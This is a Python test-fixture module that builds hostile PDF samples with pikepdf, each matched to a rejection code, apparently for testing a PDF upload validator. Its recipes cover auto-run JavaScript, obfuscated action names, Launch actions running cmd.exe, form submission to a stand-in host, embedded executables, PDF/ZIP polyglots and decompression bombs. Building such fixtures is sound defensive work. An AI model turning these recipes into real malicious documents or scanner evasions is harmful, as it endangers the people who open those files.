"""Hostile PDFs, each made here: label, file name, maker of the bytes, expected code."""

from __future__ import annotations

import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any
from zipfile import ZipFile

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

Maker = Callable[[], bytes]


def honest_pdf(pages: int = 1) -> Pdf:
    pdf = Pdf.new()
    for _number in range(pages):
        pdf.add_blank_page()
    return pdf


def saved(pdf: Pdf, **options: Any) -> bytes:
    out = BytesIO()
    pdf.save(out, static_id=True, **options)
    return out.getvalue()


def with_root(**entries: object) -> bytes:
    pdf = honest_pdf()
    for key, value in entries.items():
        pdf.Root[f"/{key}"] = value
    return saved(pdf)


def action(kind: str, **rest: object) -> Dictionary:
    return Dictionary({"/S": Name(f"/{kind}")} | {f"/{key}": value for key, value in rest.items()})


def attached() -> bytes:
    pdf = honest_pdf()
    content = pdf.make_stream(b"MZ program", Type=Name.EmbeddedFile)
    names = Array(
        [String("rahasia.exe"), Dictionary(Type=Name.Filespec, F=String("rahasia.exe"), EF=Dictionary(F=content))]
    )
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=names))
    return saved(pdf)


def hidden_in_object_stream() -> bytes:
    """The script stands in a compressed object, out of reach of a search through the bytes."""
    pdf = honest_pdf()
    holder = pdf.make_indirect(action("JavaScript", JS=String("app.alert(1)")))
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, A=holder))])
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def spelled_with_numbers() -> bytes:
    plain = with_root(OpenAction=action("JavaScript", JS=String("app.alert(1)")))
    return plain.replace(b"/JavaScript", b"/J#61vaScript")


def named_by_reference() -> bytes:
    pdf = honest_pdf()
    name = pdf.make_indirect(Name("/Launch"))
    pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, A=Dictionary(S=name))])
    return saved(pdf)


def unreachable_script() -> bytes:
    """An object that no page leads to, appended before the table is written."""
    body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    body += b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    body += b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>endobj\n"
    body += b"4 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj\n"
    return with_table(body, objects=4)


def with_table(body: bytes, objects: int) -> bytes:
    offsets = [body.index(b"%d 0 obj" % number) for number in range(1, objects + 1)]
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (objects + 1)
    table += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    end = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (objects + 1, len(body))
    return body + table + end


def no_pages() -> bytes:
    body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    return with_table(body, objects=2)


def field_event() -> bytes:
    event = Dictionary(K=action("JavaScript", JS=String("AFNumber_Format(2)")))
    form = Dictionary(Fields=Array([Dictionary(FT=Name.Tx, T=String("a"), AA=event)]))
    return with_root(AcroForm=form)


def page_event() -> bytes:
    pdf = honest_pdf()
    pdf.pages[0].obj.AA = Dictionary(O=action("URI", URI=String("http://jahat.example/")))
    return saved(pdf)


def annotated(subtype: str, **rest: object) -> bytes:
    pdf = honest_pdf()
    more = {f"/{key}": value for key, value in rest.items()}
    pdf.pages[0].obj.Annots = Array([Dictionary({"/Type": Name.Annot, "/Subtype": Name(f"/{subtype}")} | more)])
    return saved(pdf)


def chained() -> bytes:
    following = action("Launch", F=String("cmd.exe"))
    return with_root(OpenAction=action("GoTo", D=Array([0, Name.Fit]), Next=following))


def swollen(octets: int, filters: int = 1) -> bytes:
    pdf = honest_pdf()
    data = compressed_zeros(octets)
    for _layer in range(filters - 1):
        data = zlib.compress(data)
    stream = pdf.make_stream(b"")
    stream.write(data, filter=Array([Name.FlateDecode] * filters))
    pdf.pages[0].obj.Contents = stream
    return saved(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def compressed_zeros(octets: int) -> bytes:
    machine = zlib.compressobj(1)
    piece = bytes(1024 * 1024)
    parts = [machine.compress(piece) for _number in range(octets // len(piece))]
    return b"".join(parts) + machine.flush()


def swollen_object_stream(octets: int) -> bytes:
    """The reader itself inflates this one to find the catalogue, so only the memory limit stops it."""
    inside = compressed_zeros(octets)
    body = b"%PDF-1.5\n"
    objects = b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(inside)
    body += objects + inside + b"\nendstream endobj\n"
    rows = [(0, 0, 65535), (2, 5, 0), (0, 0, 0), (0, 0, 0), (0, 0, 0), (1, 9, 0), (1, len(body), 0)]
    table = b"".join(kind.to_bytes(1, "big") + at.to_bytes(4, "big") + gen.to_bytes(2, "big") for kind, at, gen in rows)
    start = len(body)
    body += b"6 0 obj<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(table)
    return body + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % start


def giant_scan() -> bytes:
    pdf = honest_pdf()
    picture = pdf.make_stream(b"\x00", Type=Name.XObject, Subtype=Name.Image, Width=50_000, Height=50_000)
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=picture))
    return saved(pdf)


def zip_with(name: str, data: bytes) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w") as archive:
        archive.writestr(name, data)
    return out.getvalue()


def zip_inside() -> bytes:
    """The archive stands in a stream, its directory near the end: valid as PDF and as ZIP."""
    pdf = honest_pdf()
    pdf.Root.Rahasia = pdf.make_stream(zip_with("a.exe", b"MZ"))
    return saved(pdf, compress_streams=False)


def honest_bytes() -> bytes:
    return saved(honest_pdf())


def locked(user: str, owner: str) -> bytes:
    return saved(honest_pdf(), encryption=pikepdf.Encryption(R=6, user=user, owner=owner))


RECIPES: list[tuple[str, Maker, str]] = [
    ("script on opening", lambda: with_root(OpenAction=action("JavaScript", JS=String("app.alert(1)"))), "UNG-11"),
    ("script in the name tree", lambda: with_root(Names=Dictionary(JavaScript=Dictionary(Names=Array([])))), "UNG-11"),
    ("script in an object stream", hidden_in_object_stream, "UNG-11"),
    ("script spelled with numbers", spelled_with_numbers, "UNG-11"),
    ("script no page leads to", unreachable_script, "UNG-11"),
    ("script of a form field", field_event, "UNG-11"),
    ("script as an address", lambda: annotated("Link", A=action("URI", URI=String("JavaScript:alert(1)"))), "UNG-11"),
    ("XFA form", lambda: with_root(AcroForm=Dictionary(Fields=Array([]), XFA=String("<xdp/>"))), "UNG-11"),
    ("launch", lambda: annotated("Link", A=action("Launch", F=String("cmd.exe"))), "UNG-12"),
    ("launch after going to a page", chained, "UNG-12"),
    ("launch named by reference", named_by_reference, "UNG-12"),
    ("sends its form", lambda: annotated("Link", A=action("SubmitForm", F=String("http://jahat.example"))), "UNG-12"),
    ("opens a file on a server", lambda: annotated("Link", A=action("GoToR", F=String("//jahat/x.pdf"))), "UNG-12"),
    ("attached program", attached, "UNG-13"),
    ("attachment as a note", lambda: annotated("FileAttachment"), "UNG-13"),
    ("film", lambda: annotated("RichMedia"), "UNG-13"),
    ("calls a page on opening", lambda: with_root(OpenAction=action("URI", URI=String("http://x.example"))), "UNG-14"),
    ("calls a page on turning", page_event, "UNG-14"),
    ("password to open", lambda: locked(user="rahasia", owner="rahasia"), "UNG-10"),
    ("password to print", lambda: locked(user="", owner="rahasia"), "UNG-10"),
    ("web page before", lambda: b"<html><script>alert(1)</script></html>\n" + honest_bytes(), "UNG-15"),
    ("junk before", lambda: b"GIF89a-bukan;" + honest_bytes(), "UNG-15"),
    ("unknown junk before", lambda: b"0123456789" + honest_bytes(), "UNG-15"),
    (
        "web page in the first lines",
        lambda: honest_bytes().replace(b"\n", b"\n%<html><script>1</script>\n", 1),
        "UNG-15",
    ),
    ("archive behind", lambda: honest_bytes() + zip_with("a.exe", b"MZ"), "UNG-15"),
    ("archive inside", zip_inside, "UNG-15"),
    ("web page behind", lambda: honest_bytes() + b"<script>alert(1)</script>", "UNG-15"),
    ("noise behind", lambda: honest_bytes() + b"\x01\x02\x03 sisa", "UNG-15"),
    ("swollen stream", lambda: swollen(160 * 1024 * 1024), "UNG-16"),
    ("swollen twice", lambda: swollen(160 * 1024 * 1024, filters=2), "UNG-16"),
    ("giant scan", giant_scan, "UNG-17"),
    ("cut in the middle", lambda: honest_bytes()[:300], "UNG-18"),
    ("only a header", lambda: b"%PDF-1.7\n" + b"x" * 500 + b"\n%%EOF\n", "UNG-18"),
    ("update cut off", lambda: honest_bytes() + b"9 0 obj<</A", "UNG-18"),
    ("no pages", no_pages, "UNG-19"),
]
